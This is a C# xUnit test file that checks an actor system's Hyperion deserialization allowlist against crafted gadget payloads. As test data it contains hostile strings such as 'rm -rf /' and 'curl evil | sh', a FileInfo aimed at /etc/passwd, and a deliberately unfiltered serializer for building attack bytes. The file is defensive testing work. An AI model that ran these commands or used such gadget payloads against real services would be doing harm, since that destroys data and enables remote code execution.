using System.Diagnostics;
using System.Reflection;
using System.Runtime.Serialization;
using ActorFarm.Manifest;
using ActorFarm.Protocol;
using ActorFarm.Serialization;
using Akka.Actor;
using Xunit;
using Hyperion;
using Xunit.Abstractions;

namespace ActorFarm.Tests.Serialization;

public class WireAllowlistTests(ITestOutputHelper output) : SerializationTestKit(output)
{
    [Fact]
    public void Every_wire_message_type_is_allowed()
    {
        var missing = Samples.ConcreteTypes<IWireMessage>().Where(t => !WireTypeAllowlist.IsAllowed(t)).Select(t => t.FullName);

        Assert.Empty(missing);
        Assert.Contains(typeof(ActorRefSurrogate), WireTypeAllowlist.AllowedTypes);
    }

    [Fact]
    public void Every_field_of_an_allowed_type_can_itself_cross_the_wire()
    {
        var farmAssembly = typeof(IWireMessage).Assembly;
        var problems = new List<string>();
        foreach (var type in WireTypeAllowlist.AllowedTypes.Where(t => t.Assembly == farmAssembly && !t.IsEnum))
        {
            foreach (var field in type.GetFields(BindingFlags.Instance | BindingFlags.Public | BindingFlags.NonPublic))
            {
                var fieldType = Nullable.GetUnderlyingType(field.FieldType) ?? field.FieldType;
                if (fieldType == typeof(IActorRef))
                    continue; // travels as ActorRefSurrogate
                var candidates = fieldType.IsAbstract || fieldType.IsInterface
                    ? farmAssembly.GetTypes().Where(t => !t.IsAbstract && fieldType.IsAssignableFrom(t)).ToList()
                    : [fieldType];
                problems.AddRange(candidates.Where(t => !WireTypeAllowlist.IsAllowed(t))
                    .Select(t => $"{type.Name}.{field.Name}: {t.FullName}"));
            }
        }

        Assert.Empty(problems);
    }

    [Fact]
    public void Nothing_with_behaviour_and_nothing_foreign_is_allowed()
    {
        Type[] forbidden = [typeof(Exception), typeof(ActorBase), typeof(IDisposable), typeof(Delegate), typeof(Attribute)];
        var farmAssembly = typeof(IWireMessage).Assembly;

        foreach (var type in WireTypeAllowlist.AllowedTypes)
        {
            var element = type.IsArray ? type.GetElementType()! : type;
            Assert.DoesNotContain(forbidden, f => f.IsAssignableFrom(element));
            Assert.True(element.Assembly == farmAssembly || element.Assembly == typeof(object).Assembly,
                $"{type.FullName} comes from {element.Assembly.GetName().Name}");
        }
    }

    [Fact]
    public void The_allowlist_is_in_a_stable_order_because_it_is_the_known_types_table()
    {
        var names = WireTypeAllowlist.AllowedTypes.Select(t => t.AssemblyQualifiedName).ToList();

        Assert.Equal(names.Order(StringComparer.Ordinal), names);
        Output?.WriteLine(string.Join(Environment.NewLine, WireTypeAllowlist.AllowedTypes.Select(t => t.FullName)));
    }

    public static TheoryData<string> Gadgets() => new(GadgetPayloads.Keys);

    [Theory]
    [MemberData(nameof(Gadgets))]
    public void A_payload_naming_a_type_outside_the_allowlist_is_refused(string gadget)
    {
        // Crafted as an attacker would: with a plain Hyperion serializer without any filter.
        var (payload, refusedTypeName) = GadgetPayloads[gadget]();
        var serializer = Sys.Serialization.GetSerializerById(HyperionWireSerializer.SerializerId);

        var error = Assert.Throws<SerializationException>(() => serializer.FromBinary(payload, null));

        Assert.Contains(refusedTypeName, error.Message);
        Assert.Contains("allowlist", error.Message);
    }

    [Fact]
    public void A_payload_from_a_plain_hyperion_serializer_with_only_allowed_types_is_accepted()
    {
        // The control for the refusal tests: type names (not known-type indices) that are on the
        // list pass, so the refusals above are the filter's doing.
        var message = Samples.Wire["SubmitJob"](TestActor);
        var serializer = Sys.Serialization.GetSerializerById(HyperionWireSerializer.SerializerId);

        DeepEqual.AssertEqual(message, serializer.FromBinary(Craft(message), null));
    }

    private static readonly Dictionary<string, Func<(byte[] Payload, string RefusedTypeName)>> GadgetPayloads = new()
    {
        ["process"] = () => (Craft(new Process()), "System.Diagnostics.Process"),
        ["file-info"] = () => (Craft(new FileInfo("/etc/passwd")), "System.IO.FileInfo"),
        ["foreign record"] = () => (Craft(new Smuggled("rm -rf /")), nameof(Smuggled)),
        ["allowed-looking BCL type"] = () => (Craft(new List<string> { "a" }), "System.Collections.Generic.List`1"),
        // The envelope is a genuine SubmitJob; the gadget hides in a polymorphic field.
        ["nested in a sweep"] = () => (Craft(new SubmitJob("job-1", Samples.FullSpec() with
        {
            Sweep = new SweepSpec { Axes = [new RogueAxis { Name = "x", Command = "curl evil | sh" }] },
        })), nameof(RogueAxis)),
    };

    private static byte[] Craft(object value)
    {
        var plain = new Hyperion.Serializer(new SerializerOptions(
            versionTolerance: false, preserveObjectReferences: false, surrogates: null, serializerFactories: null,
            knownTypes: null, ignoreISerializable: true, packageNameOverrides: null,
            disallowUnsafeTypes: false, typeFilter: DisabledTypeFilter.Instance));
        using var stream = new MemoryStream();
        plain.Serialize(value, stream);
        return stream.ToArray();
    }

    public sealed record Smuggled(string Command);

    public sealed record RogueAxis : SweepAxis
    {
        public required string Command { get; init; }
    }
}
